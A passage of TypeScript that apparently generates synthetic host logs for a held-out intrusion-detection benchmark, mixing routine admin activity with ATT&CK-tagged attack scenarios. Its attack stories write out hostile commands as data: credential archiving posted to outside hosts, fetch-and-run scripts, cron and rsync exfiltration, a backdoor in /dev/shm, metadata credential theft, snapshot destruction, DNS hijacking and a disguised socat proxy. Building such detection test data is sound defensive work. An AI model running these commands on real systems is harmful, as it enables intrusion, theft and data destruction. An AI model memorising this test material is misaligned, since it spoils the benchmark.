  if (weekday(day) === 0) {
    const t = at(day, 3, r, 30);
    const w = h.exec(t, null, '/usr/bin/ssm-document-worker', `/usr/bin/ssm-document-worker ${uuid(r)} i-0a1b2c3d4e5f60718`, '1600', { uid: '0', cwd: '/' });
    const dir = `/var/lib/amazon/ssm/i-0a1b2c3d4e5f60718/document/orchestration/${uuid(r)}/PatchLinux`;
    const sh = h.exec(t + 1, null, '/bin/sh', `/bin/sh -c ${dir}/_script.sh`, w, { uid: '0', cwd: dir });
    const py = h.exec(t + 2, null, '/usr/bin/python3', `python3 ${dir}/main.py --operation Scan --baseline-override default`, sh, { uid: '0', cwd: dir });
    socket(h, r, t + 3, { pid: py, path: '/usr/bin/python3.12', action: 'connect', address: '52.219.170.61', port: 443, auid: UNSET });
    h.exec(t + 30, null, '/usr/bin/apt-get', 'apt-get -s dist-upgrade', py, { uid: '0', cwd: dir });
  }
  // ops on Tuesdays: the peers, the log, the firewall; a new peer now and then
  if (weekday(day) === 2 && d !== 0) {
    const start = at(day, 10, r, 90);
    h.login(start, 'ops', OFFICE.ops);
    const shell = h.session(start, 'ops');
    let t = start + 30;
    for (const cmd of [
      'sudo wg show',
      'sudo journalctl -u openvpn-server@server --since -1d',
      'sudo cat /run/openvpn-server/status-server.log',
      'sudo iptables -L -n -v',
      'uptime',
    ]) {
      if (r() < 0.25) continue;
      if (cmd.startsWith('sudo ')) {
        const sudo = h.exec(t, 'ops', '/usr/bin/sudo', cmd, shell, { euid: '0' });
        const inner = cmd.slice(5);
        h.exec(t + 1, 'ops', inner.startsWith('iptables') ? '/usr/sbin/iptables' : `/usr/bin/${inner.split(' ')[0]}`, inner, sudo, { uid: '0', euid: '0' });
      } else h.exec(t, 'ops', `/usr/bin/${cmd}`, cmd, shell);
      h.history(t, 'ops', cmd);
      t += 20 + Math.floor(r() * 200);
    }
    if (r() < 0.6) {
      const name = `${pick(r, ['kim', 'omar', 'dana', 'sam', 'hana', 'lars'])}-${pick(r, ['phone', 'laptop', 'tablet'])}`;
      const sudo = h.exec(t, 'ops', '/usr/bin/sudo', `sudo /usr/local/sbin/vpn-add-peer --iface wg0 ${name}`, shell, { euid: '0' });
      addPeer(h, t + 1, r, 'wg0', name, `10.40.11.${10 + Math.floor(r() * 200)}`, sudo, { uid: '0', euid: '0', cwd: '/home/ops' });
      h.history(t, 'ops', `sudo /usr/local/sbin/vpn-add-peer --iface wg0 ${name}`);
    }
  }
  // on call: a night now and then, from home, the log read and OpenVPN restarted
  if (r() < 0.17) {
    const start = at(day, 0, r, 4 * 60);
    h.login(start, 'ops', VPN_ADDR.ops);
    const shell = h.session(start, 'ops');
    const sudo = h.exec(start + 30, 'ops', '/usr/bin/sudo', 'sudo journalctl -u openvpn-server@server -n 200', shell, { euid: '0' });
    h.exec(start + 31, 'ops', '/usr/bin/journalctl', 'journalctl -u openvpn-server@server -n 200', sudo, { uid: '0', euid: '0' });
    h.history(start + 30, 'ops', 'sudo journalctl -u openvpn-server@server -n 200');
    if (r() < 0.6) {
      const s2 = h.exec(start + 200, 'ops', '/usr/bin/sudo', 'sudo systemctl restart openvpn-server@server', shell, { euid: '0' });
      h.exec(start + 201, 'ops', '/usr/bin/systemctl', 'systemctl restart openvpn-server@server', s2, { uid: '0', euid: '0' });
      openvpnStart(h, start + 202, {});
      h.history(start + 200, 'ops', 'sudo systemctl restart openvpn-server@server');
    }
  }
}

/** systemd starts the OpenVPN server (it drops to nobody once the tunnel is up) */
function openvpnStart(h: Host, t: number, tag: Tag): void {
  h.exec(
    t,
    null,
    '/usr/sbin/openvpn',
    '/usr/sbin/openvpn --status /run/openvpn-server/status-server.log --status-version 2 --suppress-timestamps --config server.conf',
    '1',
    {
      uid: '0',
      cwd: '/etc/openvpn/server',
      ...tag,
    },
  );
}

/**
 * An admin's SSH login from `from` and `sudo -i` after `after` seconds: the root shell's pid and
 * the ids its commands run with (root, the admin's login behind them)
 */
export function rootShell(
  h: Host,
  t: number,
  who: string,
  from: string,
  after: number,
  tag: Tag,
): { bash: string; root: { uid: string; euid: string; cwd: string } & Tag } {
  h.login(t, who, from, tag);
  const shell = h.session(t, who, tag);
  h.history(t + after, who, 'sudo -i', tag);
  const sudo = h.exec(t + after, who, '/usr/bin/sudo', 'sudo -i', shell, { euid: '0', ...tag });
  const root = { uid: '0', euid: '0', cwd: '/root', ...tag };
  return { bash: h.exec(t + after + 1, who, '/bin/bash', '-bash', sudo, root), root };
}

// ---- attacks ----

export interface Heldout5Hosts {
  gpu: Host;
  files: Host;
  vpn: Host;
  pg: Host;
}

export function heldout5Attacks(rand: Rand, hosts: Heldout5Hosts, st: GpuState, squeuePlant: { at?: number }): Story[] {
  const r = rand;
  return [
    {
      id: 'conda-postlink',
      title:
        'trojanised software dependency (T1195.001): the vision researcher, at his usual hour, installs a package from a look-alike conda channel; its post-link script runs an encoded python stage (T1140) that packs his keys and tokens and posts them out over its C2 channel (T1041), then keeps calling back',
      host: 'gpu-login-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/home/raj/projects/vision', ...s };
        h.login(t, 'raj', OFFICE.raj);
        const shell = h.session(t, 'raj');
        const cmd = 'conda install -y -n vision -c pytorch-nighlty -c conda-forge torchvision-extra-decoders';
        h.history(t + 40, 'raj', cmd, s);
        const conda = h.exec(t + 40, 'raj', '/opt/conda/bin/python', `/opt/conda/bin/python /opt/conda/bin/${cmd}`, shell, cwd);
        socket(h, r, t + 42, { pid: conda, path: '/opt/conda/bin/python3.12', action: 'connect', address: pick(r, CONDA), port: 443, auid: '1102' }, s);
        const post = h.exec(t + 90, 'raj', '/bin/bash', '/bin/bash -x /opt/conda/envs/vision/bin/.torchvision-extra-decoders-post-link.sh', conda, cwd);
        const py = h.exec(
          t + 91,
          'raj',
          '/opt/conda/envs/vision/bin/python',
          '/opt/conda/envs/vision/bin/python -c import base64,zlib;exec(zlib.decompress(base64.b64decode(b"eJyNVE1v2zAMvedXCL4kBYq0a4dhGNAd1mFAsQHbgF12CBSZibWpkiDJsbP/f5Tjj7RYsV0sWXzvkSJFcB1AzWTmnN8XkPb8DEaHe4Y1MfUGEsaTc47lW5xJ95VC9ZWTm63GTQT")))',
          post,
          cwd,
        );
        socket(
          h,
          r,
          t + 92,
          { pid: py, path: '/opt/conda/envs/vision/bin/python3.11', action: 'connect', address: '203.0.113.119', port: 443, auid: '1102' },
          s,
        );
        h.exec(t + 95, 'raj', '/usr/bin/tar', 'tar czf /tmp/.conda_pkgs_cache.tgz -C /home/raj .ssh .netrc .config/wandb .cache/huggingface/token', py, cwd);
        const curl = h.exec(
          t + 97,
          'raj',
          '/usr/bin/curl',
          'curl -s -m 20 -X POST --data-binary @/tmp/.conda_pkgs_cache.tgz https://203.0.113.119/api/v2/telemetry',
          py,
          cwd,
        );
        socket(h, r, t + 98, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '203.0.113.119', port: 443, auid: '1102' }, s);
        h.exec(t + 100, 'raj', '/usr/bin/rm', 'rm -f /tmp/.conda_pkgs_cache.tgz', py, cwd);
        // the stage stays behind, detached, and calls back every few hours
        const beacon = h.exec(
          t + 101,
          'raj',
          '/opt/conda/envs/vision/bin/python',
          '/opt/conda/envs/vision/bin/python -c import os;os.setsid();exec(open("/home/raj/.cache/conda/.lock").read())',
          py,
          cwd,
        );
        const end = t - (t % DAY) + 2 * DAY;
        for (let ft = t + 3 * HOUR; ft < end; ft += 3 * HOUR + Math.floor(r() * 1800))
          socket(
            h,
            r,
            ft,
            { pid: beacon, path: '/opt/conda/envs/vision/bin/python3.11', action: 'connect', address: '203.0.113.119', port: 443, auid: '1102' },
            s,
          );
      },
    },
    {
      id: 'jupyter-server-ext',
      title:
        "server software component (T1505) as a Jupyter server extension: a notebook user's leaked hub token, used from a Tor exit at lunchtime, opens a terminal in her running server, installs the extension from a look-alike index and enables it; the next morning her server loads it and it takes commands through a GitHub gist (T1102 web service)",
      host: 'gpu-login-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const home = '/home/ana';
        const day = Math.floor(t / DAY) * DAY;
        socket(h, r, t, { pid: '1320', path: '/usr/bin/node', action: 'accept', address: '185.220.101.47', port: 0, localPort: 443, auid: UNSET }, s);
        const running = st.servers.get(`ana@${day}`);
        const su =
          running && running.start < t && running.end > t
            ? running.pid
            : h.exec(
                t + 3,
                null,
                '/opt/jupyterhub/bin/python3',
                `/opt/jupyterhub/bin/python3 /opt/jupyterhub/bin/jupyterhub-singleuser --port=${40000 + Math.floor(r() * 20000)}`,
                '1310',
                { uid: '1101', cwd: home, ...s },
              );
        const ids = { uid: '1101', cwd: home, ...s };
        const term = h.exec(t + 20, null, '/bin/bash', '/bin/bash -l', su, ids);
        const steps: Array<[string, string, string?]> = [
          ['/usr/bin/id', 'id'],
          [
            '/opt/conda/bin/python',
            '/opt/conda/bin/python -m pip install --user -q --index-url https://pypi-mirror.jupyter-contrib.org/simple jupyter-server-resmon',
            '198.51.100.201',
          ],
          ['/opt/conda/bin/python', '/opt/conda/bin/python /opt/conda/bin/jupyter-server extension enable --user jupyter_server_resmon'],
          ['/opt/conda/bin/python', '/opt/conda/bin/python /opt/conda/bin/jupyter-server extension list'],
        ];
        let tt = t + 40;
        for (const [exe, cmd, net] of steps) {
          const pid = h.exec(tt, null, exe, cmd, term, ids);
          if (net) socket(h, r, tt + 2, { pid, path: '/opt/conda/bin/python3.12', action: 'connect', address: net, port: 443, auid: UNSET }, s);
          h.history(tt, 'ana', cmd.replace(/^\/opt\/conda\/bin\/python (-m )?/, '').replace('/opt/conda/bin/', ''), s);
          tt += 15 + Math.floor(r() * 40);
        }
        // the next morning her server starts with the extension: it polls a gist and runs what it finds
        const next = st.servers.get(`ana@${day + DAY}`);
        const t2 = next ? next.start + 5 : day + DAY + 9 * HOUR;
        const server = next
          ? next.pid
          : h.exec(
              t2,
              null,
              '/opt/jupyterhub/bin/python3',
              `/opt/jupyterhub/bin/python3 /opt/jupyterhub/bin/jupyterhub-singleuser --port=${40000 + Math.floor(r() * 20000)}`,
              '1310',
              { uid: '1101', cwd: home, ...s },
            );
        const until = next ? next.end : t2 + 8 * HOUR;
        let k = 0;
        for (let pt = t2 + 60; pt < until; pt += 40 * 60 + Math.floor(r() * 1200), k++) {
          socket(
            h,
            r,
            pt,
            {
              pid: server,
              path: '/opt/jupyterhub/bin/python3.12',
              action: 'connect',
              address: pick(r, ['140.82.121.6', '140.82.112.6']),
              port: 443,
              auid: UNSET,
            },
            s,
          );
          if (k === 1) {
            const sh = h.exec(pt + 2, null, '/bin/sh', '/bin/sh -c id; hostname; nvidia-smi -L; ls /home/ana/data /shared/datasets', server, ids);
            for (const c of ['id', 'hostname', 'nvidia-smi -L', 'ls /home/ana/data /shared/datasets'])
              h.exec(pt + 2, null, `/usr/bin/${c.split(' ')[0]}`, c, sh, ids);
          }
          if (k === 3) {
            const sh = h.exec(
              pt + 2,
              null,
              '/bin/sh',
              '/bin/sh -c cat /home/ana/.pgpass /home/ana/.config/gcloud/application_default_credentials.json',
              server,
              ids,
            );
            h.exec(pt + 2, null, '/usr/bin/cat', 'cat /home/ana/.pgpass /home/ana/.config/gcloud/application_default_credentials.json', sh, ids);
          }
        }
      },
    },
    {
      id: 'path-hijack-squeue',
      title:
        "path interception by PATH (T1574.007) in tainted shared content (T1080): the account of a researcher who left, still active, plants an squeue wrapper in the group-writable shared tool directory that comes first in everyone's PATH and timestamps it like its neighbours (T1070.006); from then on each person's squeue also sends their SSH keys out (T1552.004)",
      host: 'gpu-login-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/home/mei', ...s };
        h.login(t, 'mei', VPN_ADDR.mei, s);
        const shell = h.session(t, 'mei', s);
        const steps = [
          'echo $PATH',
          'ls -la /shared/apps/bin',
          'cp /tmp/.m/sq /shared/apps/bin/squeue',
          'chmod 775 /shared/apps/bin/squeue',
          'touch -r /shared/apps/bin/sinfo /shared/apps/bin/squeue',
        ];
        let tt = t + 30;
        for (const cmd of steps) {
          if (!cmd.startsWith('echo')) h.exec(tt, 'mei', `/usr/bin/${cmd.split(' ')[0]}`, cmd, shell, cwd);
          h.history(tt, 'mei', cmd, s);
          tt += 10 + Math.floor(r() * 40);
        }
        squeuePlant.at = tt;
      },
    },
    {
      id: 'samba-hash-pth',
      title:
        "OS credential dumping from Samba's password database (T1003) by the file server's admin account, from the admin's own desk in working hours, hidden in the routine `pdbedit -L` (with `-w` for the NT hashes), then pass the hash (T1550.002) from the GPU node to take the finance share (T1039 data from a network shared drive)",
      host: 'files-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'ops', OFFICE.ops, s);
        const shell = h.session(t, 'ops', s);
        let tt = t + 30;
        for (const cmd of ['smbstatus -b', 'sudo pdbedit -L', 'sudo pdbedit -L -w']) {
          if (cmd.startsWith('sudo ')) {
            const sudo = h.exec(tt, 'ops', '/usr/bin/sudo', cmd, shell, { euid: '0', ...s });
            h.exec(tt + 1, 'ops', '/usr/bin/pdbedit', cmd.slice(5), sudo, { uid: '0', euid: '0', ...s });
          } else h.exec(tt, 'ops', '/usr/bin/smbstatus', cmd, shell, s);
          h.history(tt, 'ops', cmd, s);
          tt += 20 + Math.floor(r() * 60);
        }
        // forty minutes later, from the GPU node, with the vision researcher's session
        const gpu = hosts.gpu;
        const t2 = tt + 40 * 60 + Math.floor(r() * 600);
        gpu.login(t2, 'raj', VPN_ADDR.raj, s);
        const gshell = gpu.session(t2, 'raj', s);
        const gcwd = { cwd: '/home/raj', ...s };
        for (const [k, [share, user, cmd]] of [
          ['finance', 'hana', 'prompt off; recurse on; mget 2025'],
          ['research', 'lars', 'ls'],
        ].entries()) {
          const at2 = t2 + 60 + k * 200;
          const line = `smbclient //${FILES}/${share} -U ${user} --pw-nt-hash -c ${cmd}`;
          const c = gpu.exec(at2, 'raj', '/usr/bin/smbclient', line, gshell, gcwd);
          socket(gpu, r, at2 + 1, { pid: c, path: '/usr/bin/smbclient', action: 'connect', address: FILES, port: 445, auid: '1102' }, s);
          socket(h, r, at2 + 1, { pid: '1400', path: '/usr/sbin/smbd', action: 'accept', address: GPU, port: 0, localPort: 445, auid: UNSET }, s);
          gpu.history(at2, 'raj', line, s);
        }
        gpu.exec(t2 + 600, 'raj', '/usr/bin/tar', 'tar czf /dev/shm/.f.tgz 2025', gshell, gcwd);
      },
    },
    {
      id: 'cron-rsync-trickle',
      title:
        "scheduled transfer (T1029) of archived data (T1560.001) over rsync's own protocol (T1048.003): the office manager's password, used over the VPN by someone else (she never logs in to the server), installs a user crontab whose nightly job tars a quarter of the finance share, splits it and sends one chunk a night",
      host: 'files-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/home/hana', ...s };
        h.login(t, 'hana', VPN_ADDR.hana, s);
        const shell = h.session(t, 'hana', s);
        const steps: Array<[string, string]> = [
          ['/usr/bin/crontab', 'crontab -l'],
          ['/usr/bin/mkdir', 'mkdir -p /var/tmp/.cache'],
          ['/usr/bin/curl', 'curl -s -o /var/tmp/.cache/sync.sh https://198.51.100.140/s'],
          ['/usr/bin/chmod', 'chmod 700 /var/tmp/.cache/sync.sh'],
          ['/bin/sh', 'sh -x /var/tmp/.cache/sync.sh'],
          ['/usr/bin/crontab', 'crontab -'],
        ];
        let tt = t + 20;
        for (const [exe, cmd] of steps) {
          const pid = h.exec(tt, 'hana', exe, cmd, shell, cwd);
          if (exe.endsWith('curl')) socket(h, r, tt + 1, { pid, path: exe, action: 'connect', address: '198.51.100.140', port: 443, auid: '1120' }, s);
          if (cmd === 'crontab -') h.file(tt, '/var/spool/cron/crontabs/hana', 'CREATED', s);
          if (cmd.startsWith('sh -x')) trickle(h, tt + 2, r, pid, 'hana', s, 0);
          h.history(tt, 'hana', cmd === 'crontab -' ? '(crontab -l 2>/dev/null; echo "17 3 * * * /var/tmp/.cache/sync.sh") | crontab -' : cmd, s);
          tt += 15 + Math.floor(r() * 60);
        }
        // cron runs it at 03:17 the next night: cron's own process is routine, the job is not
        const night = Math.floor(t / DAY) * DAY + DAY + 3 * HOUR + 17 * 60;
        const cron = h.exec(night, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', '1');
        const sh = h.exec(night + 1, 'hana', '/bin/sh', '/bin/sh -c /var/tmp/.cache/sync.sh', cron, cwd);
        trickle(h, night + 1, r, sh, 'hana', s, 1);
      },
    },
    {
      id: 'departing-admin',
      title:
        "data destruction (T1485) and account access removal (T1531) by a departing admin at the end of his last day, in his usual hours and with his usual tools: the research dataset's snapshots destroyed in a loop, recent checkpoints deleted, the researchers' Samba and login accounts locked",
      host: 'files-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'lars', OFFICE.lars, s);
        const shell = h.session(t, 'lars', s);
        const root = { uid: '0', euid: '0', cwd: '/home/lars', ...s };
        let tt = t + 40;
        const sudo = (cmd: string, exe: string, after = 30) => {
          const p = h.exec(tt, 'lars', '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0', ...s });
          const pid = h.exec(tt + 1, 'lars', exe, cmd, p, root);
          h.history(tt, 'lars', `sudo ${cmd}`, s);
          tt += after + Math.floor(r() * 30);
          return pid;
        };
        sudo('zfs list -t snapshot -o name,used -s creation', '/usr/sbin/zfs');
        const loop = sudo('bash -c for s in $(zfs list -H -t snapshot -o name -r tank/shares/research); do zfs destroy $s; done', '/bin/bash', 5);
        h.exec(tt, 'lars', '/usr/sbin/zfs', 'zfs list -H -t snapshot -o name -r tank/shares/research', loop, root);
        const day = Math.floor(t / DAY) * DAY;
        for (let k = 1; k <= 7; k++) {
          const date = new Date((day - k * DAY) * 1000).toISOString().slice(0, 10);
          h.exec(tt + k, 'lars', '/usr/sbin/zfs', `zfs destroy tank/shares/research@zfs-auto-snap_daily-${date}-0625`, loop, root);
        }
        tt += 60;
        sudo('find /srv/shares/research -name *.ckpt -mtime -90 -delete', '/usr/bin/find', 120);
        for (const who of ['ana', 'raj', 'tomas']) sudo(`smbpasswd -d ${who}`, '/usr/bin/smbpasswd', 5);
        for (const who of ['ana', 'raj']) {
          sudo(`usermod -L ${who}`, '/usr/sbin/usermod', 5);
          h.file(tt, '/etc/shadow', 'UPDATED', s);
        }
      },
    },
    {
      id: 'vpn-dns-hijack',
      title:
        "adversary-in-the-middle (T1557) through the VPN: the on-call admin's credentials, late at night from his home address, point the pushed DNS server at an outside resolver and add a NAT rule that sends the clients' DNS there (T1562.004 modify system firewall), then restart OpenVPN",
      host: 'vpn-gw-1',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const { bash, root } = rootShell(h, t, 'ops', VPN_ADDR.ops, 20, s);
        const steps: Array<[string, string]> = [
          ['/usr/bin/grep', 'grep -n push /etc/openvpn/server/server.conf'],
          ['/usr/bin/sed', 'sed -i s/dhcp-option DNS 10.40.0.2/dhcp-option DNS 198.51.100.53/ /etc/openvpn/server/server.conf'],
          ['/usr/sbin/iptables', 'iptables -t nat -I PREROUTING -i tun0 -p udp --dport 53 -j DNAT --to-destination 198.51.100.53:53'],
          ['/usr/sbin/iptables', 'iptables -t nat -I POSTROUTING -o ens5 -s 10.40.9.0/24 -d 198.51.100.53 -j MASQUERADE'],
          ['/usr/bin/systemctl', 'systemctl restart openvpn-server@server'],
        ];
        let tt = t + 40;
        for (const [exe, cmd] of steps) {
          h.exec(tt, 'ops', exe, cmd, bash, root);
          h.history(tt, 'root', cmd, s);
          if (exe.endsWith('systemctl')) openvpnStart(h, tt + 1, s);
          tt += 20 + Math.floor(r() * 40);
        }
      },
    },
    {
      id: 'ssm-bpfdoor',
      title:
        "cloud administration command (T1651): stolen cloud credentials send an SSM Run Command to the gateway at night; its script fetches a passive backdoor to /dev/shm, starts it and deletes it (T1070.004); hours later a magic packet (T1205.002 socket filter) makes it redirect a port with iptables and serve a shell that reads the instance role's credentials from the metadata service (T1552.005) and the WireGuard keys",
      host: 'vpn-gw-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const dir = `/var/lib/amazon/ssm/i-0a1b2c3d4e5f60718/document/orchestration/${uuid(r)}/awsrunShellScript/0.awsrunShellScript`;
        const ids = { uid: '0', cwd: dir, ...s };
        const worker = h.exec(t, null, '/usr/bin/ssm-document-worker', `/usr/bin/ssm-document-worker ${uuid(r)} i-0a1b2c3d4e5f60718`, '1600', ids);
        const sh = h.exec(t + 1, null, '/bin/sh', `/bin/sh -c ${dir}/_script.sh`, worker, ids);
        const curl = h.exec(t + 2, null, '/usr/bin/curl', 'curl -s -o /dev/shm/kdmtmpflush http://198.51.100.19/k', sh, ids);
        socket(h, r, t + 3, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '198.51.100.19', port: 80, auid: UNSET }, s);
        h.exec(t + 4, null, '/usr/bin/chmod', 'chmod 755 /dev/shm/kdmtmpflush', sh, ids);
        const door = h.exec(t + 4, null, '/dev/shm/kdmtmpflush', '/dev/shm/kdmtmpflush --init', sh, ids);
        h.exec(t + 5, null, '/usr/bin/rm', 'rm -f /dev/shm/kdmtmpflush', sh, ids);
        // the magic packet, seven hours on: a port redirect, a shell on it, the role's credentials
        const t2 = t + 7 * HOUR + Math.floor(r() * 1800);
        const gone = '/dev/shm/kdmtmpflush (deleted)';
        const rid = { uid: '0', cwd: '/', ...s };
        const rule = 'iptables -t nat -I PREROUTING -p tcp -s 203.0.113.201 --dport 443 -j REDIRECT --to-ports 42391';
        const r1 = h.exec(t2, null, '/bin/sh', `/bin/sh -c ${rule}`, door, rid);
        h.exec(t2, null, '/usr/sbin/iptables', rule, r1, rid);
        h.listen(t2 + 1, door, 42391, '0.0.0.0', s);
        socket(h, r, t2 + 3, { pid: door, path: gone, action: 'accept', address: '203.0.113.201', port: 0, localPort: 42391, auid: UNSET }, s);
        const shell = h.exec(t2 + 4, null, '/bin/sh', '/bin/sh', door, rid);
        const cmds: Array<[string, string, string?]> = [
          ['/usr/bin/id', 'id'],
          ['/usr/bin/curl', `curl -s http://${METADATA}/latest/meta-data/iam/security-credentials/`, METADATA],
          ['/usr/bin/curl', `curl -s http://${METADATA}/latest/meta-data/iam/security-credentials/vpn-gw-role`, METADATA],
          ['/usr/bin/cat', 'cat /etc/wireguard/wg0.conf'],
          ['/usr/bin/wg', 'wg show wg0 dump'],
        ];
        let tt = t2 + 20;
        for (const [exe, cmd, net] of cmds) {
          const pid = h.exec(tt, null, exe, cmd, shell, rid);
          if (net) socket(h, r, tt + 1, { pid, path: exe, action: 'connect', address: net, port: 80, auid: UNSET }, s);
          tt += 10 + Math.floor(r() * 30);
        }
        const undo = rule.replace('-I PREROUTING', '-D PREROUTING');
        const r2 = h.exec(tt + 30, null, '/bin/sh', `/bin/sh -c ${undo}`, door, rid);
        h.exec(tt + 30, null, '/usr/sbin/iptables', undo, r2, rid);
      },
    },
    {
      id: 'socat-renamed-forward',
      title:
        "renamed system utility (T1036.003) as a proxy (T1090): the gateway admin's key, from his desk in the afternoon, installs socat as a health daemon with a systemd unit (T1543.002) listening next to WireGuard's port and forwarding to the database; an outside address then reads the database through it for hours",
      host: 'vpn-gw-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'ops', OFFICE.ops, s);
        const shell = h.session(t, 'ops', s);
        const root = { uid: '0', euid: '0', cwd: '/home/ops', ...s };
        const steps: Array<[string, string]> = [
          ['/usr/bin/install', 'install -m 755 /usr/bin/socat /usr/local/sbin/wg-healthd'],
          ['/usr/bin/tee', 'tee /etc/systemd/system/wg-healthd.service'],
          ['/usr/bin/systemctl', 'systemctl daemon-reload'],
          ['/usr/bin/systemctl', 'systemctl enable --now wg-healthd'],
        ];
        let tt = t + 30;
        for (const [exe, cmd] of steps) {
          const sudo = h.exec(tt, 'ops', '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0', ...s });
          h.exec(tt + 1, 'ops', exe, cmd, sudo, root);
          if (exe.endsWith('tee')) h.file(tt + 2, '/etc/systemd/system/wg-healthd.service', 'CREATED', s);
          if (cmd.includes('enable')) h.file(tt + 2, '/etc/systemd/system/multi-user.target.wants/wg-healthd.service', 'CREATED', s);
          h.history(tt, 'ops', `sudo ${cmd}`, s);
          tt += 20 + Math.floor(r() * 60);
        }
        const fwd = h.exec(tt, null, '/usr/local/sbin/wg-healthd', '/usr/local/sbin/wg-healthd TCP4-LISTEN:51821,fork,reuseaddr TCP4:10.40.2.7:5432', '1', {
          uid: '0',
          cwd: '/',
          ...s,
        });
        h.listen(tt + 1, fwd, 51821, '0.0.0.0', s);
        for (let k = 0; k < 4; k++) {
          const ct = tt + 1800 + k * (50 * 60 + Math.floor(r() * 1200));
          const child = h.nextPid();
          socket(
            h,
            r,
            ct,
            { pid: fwd, path: '/usr/local/sbin/wg-healthd', action: 'accept', address: '198.51.100.77', port: 0, localPort: 51821, auid: UNSET },
            s,
          );
          socket(h, r, ct + 1, { pid: child, path: '/usr/local/sbin/wg-healthd', action: 'connect', address: PG, port: 5432, auid: UNSET }, s);
          hosts.pg.exec(
            ct + 1,
            'postgres',
            '/usr/lib/postgresql/15/bin/postgres',
            `postgres: app appdb ${VPN_INSIDE}(${40000 + Math.floor(r() * 20000)}) COPY`,
            '701',
            {
              cwd: '/var/lib/postgresql/15/main',
              ...s,
            },
          );
        }
      },
    },
    {
      id: 'history-cred-hunt',
      title:
        "credentials in shell history (T1552.003) and permission group discovery (T1069.001): an admin's account on the bastion, from the admin's own desk in working hours, greps everyone's bash history with sudo, looks up who is in sudo and adm, and uses a database password it found",
      host: 'bastion-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'kim', '10.40.8.52', s);
        const shell = h.session(t, 'kim', s);
        const cwd = { cwd: '/home/kim', ...s };
        let tt = t + 30;
        const grep = 'grep -h -E -i pass|PGPASSWORD|sshpass|token= /home/ops/.bash_history /home/omar/.bash_history /root/.bash_history';
        const sudo = h.exec(tt, 'kim', '/usr/bin/sudo', `sudo ${grep}`, shell, { euid: '0', ...cwd });
        h.exec(tt + 1, 'kim', '/usr/bin/grep', grep, sudo, { uid: '0', euid: '0', ...cwd });
        h.history(tt, 'kim', `sudo grep -h -E -i 'pass|PGPASSWORD|sshpass|token=' /home/*/.bash_history /root/.bash_history`, s);
        tt += 40;
        for (const cmd of ['getent group sudo adm', 'id ops']) {
          h.exec(tt, 'kim', `/usr/bin/${cmd.split(' ')[0]}`, cmd, shell, cwd);
          h.history(tt, 'kim', cmd, s);
          tt += 15 + Math.floor(r() * 30);
        }
        const psql = h.exec(tt, 'kim', '/usr/bin/psql', `psql -h ${PG} -U app appdb -c \\dt`, shell, cwd);
        h.connect(tt + 1, psql, '/usr/bin/psql', '1005', PG, 5432, s);
        h.history(tt, 'kim', `PGPASSWORD=Sh0p-2024! psql -h ${PG} -U app appdb -c '\\dt'`, s);
      },
    },
  ];
}

/** one run of the trickle job: tar a quarter, split it, send one chunk to the outside rsync daemon */
function trickle(h: Host, t: number, r: Rand, parent: string, who: string, s: Tag, n: number): void {
  const cwd = { cwd: '/var/tmp/.cache', ...s };
  const script = h.exec(t, who, '/var/tmp/.cache/sync.sh', '/bin/sh /var/tmp/.cache/sync.sh', parent, cwd);
  h.exec(t + 1, who, '/usr/bin/tar', 'tar cf - /srv/shares/finance/2025/Q3', script, cwd);
  h.exec(t + 1, who, '/usr/bin/split', 'split -b 25m -d - /var/tmp/.cache/p.', script, cwd);
  const rs = h.exec(t + 30, who, '/usr/bin/rsync', `rsync -a --remove-source-files /var/tmp/.cache/p.0${n} rsync://198.51.100.140/drop/h/`, script, cwd);
  socket(h, r, t + 31, { pid: rs, path: '/usr/bin/rsync', action: 'connect', address: '198.51.100.140', port: 873, auid: h.account(who).uid }, s);
}

/**
 * After the wrapper is planted every squeue on the node runs it: the person's squeue becomes
 * `/bin/bash /shared/apps/bin/squeue ...`, which runs the real one (and the real one makes the
 * connection to the controller) and, the first time for each person, sends their keys out.
 */
function runThroughWrapper(h: Host, plantedAt: number, r: Rand, story: string): void {
  const s = { story };
  const victims = h.rows.filter((row) => row.query === 'pack_hids_process_events' && row.columns.path === '/usr/bin/squeue' && row.time > plantedAt);
  const sent = new Set<string>();
  for (const row of victims) {
    const c = row.columns;
    const wrapperPid = c.pid;
    row.story = story;
    c.path = '/shared/apps/bin/squeue';
    c.cmdline = `/bin/bash /shared/apps/bin/squeue ${c.cmdline.replace(/^squeue ?/, '')}`.trimEnd();
    const ids = { uid: c.uid, euid: c.euid, cwd: c.cwd, ...s };
    const who = h.accounts.find((a) => a.uid === c.uid)?.name ?? null;
    const real = h.exec(
      row.time,
      who,
      '/usr/bin/squeue',
      `/usr/bin/squeue ${c.cmdline.replace('/bin/bash /shared/apps/bin/squeue', '').trim()}`.trimEnd(),
      wrapperPid,
      ids,
    );
    for (const sock of h.rows)
      if (sock.query === 'pack_hids_socket_events' && sock.columns.pid === wrapperPid && sock.time >= row.time && sock.time <= row.time + 2) {
        sock.columns.pid = real;
        sock.story = story;
      }
    if (!sent.has(c.uid)) {
      sent.add(c.uid);
      h.exec(row.time + 1, who, '/usr/bin/base64', 'base64 -w0', wrapperPid, ids);
      const curl = h.exec(row.time + 1, who, '/usr/bin/curl', 'curl -s -m 3 -o /dev/null --data-binary @- https://203.0.113.77/c', wrapperPid, ids);
      socket(h, r, row.time + 2, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '203.0.113.77', port: 443, auid: c.auid }, s);
    }
  }
}

// ---- benign first times ----

export function heldout5Novelties(rand: Rand, st: GpuState): Story[] {
  const r = rand;
  return [
    {
      id: 'new-phd-student',
      title:
